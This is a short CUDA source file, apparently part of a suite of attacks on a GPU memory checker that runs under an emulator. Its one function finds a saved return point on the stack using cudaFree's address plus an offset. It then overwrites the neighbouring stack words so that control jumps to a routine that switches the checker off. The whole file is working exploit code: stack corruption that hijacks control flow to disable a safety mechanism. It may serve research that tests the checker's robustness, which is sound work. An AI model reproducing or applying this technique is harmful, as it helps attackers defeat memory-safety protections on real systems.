// Switches the checker off by what the border to the emulator keeps on the stack: an attack that includes
// this has move_the_border() called by something on the other side of it.
#include "../parts/reads_while_unchecked.cu"

static unsigned long wanted = 0;

// Finds where the border stands on the stack, and puts the switch in the place of where it writes
// what stood there before.
__attribute__((noinline)) static void move_the_border() {
  volatile unsigned long mark = 0;
  using Free = cudaError_t(void*);
  volatile auto begin = reinterpret_cast<unsigned long>(static_cast<Free*>(&cudaFree));
  const unsigned long border = begin + OFFSET("cudaFree", "emulator_came_back");
  volatile unsigned long at = reinterpret_cast<unsigned long>(&mark);
  auto* const words = reinterpret_cast<volatile unsigned long*>(at);
  for (int i = 0; i < 200; ++i) {
    if (words[i] != border) continue;
    words[i + 1] = reinterpret_cast<unsigned long>(switch_of_the_checker());
    words[i + 2] = wanted;
    return;
  }
}
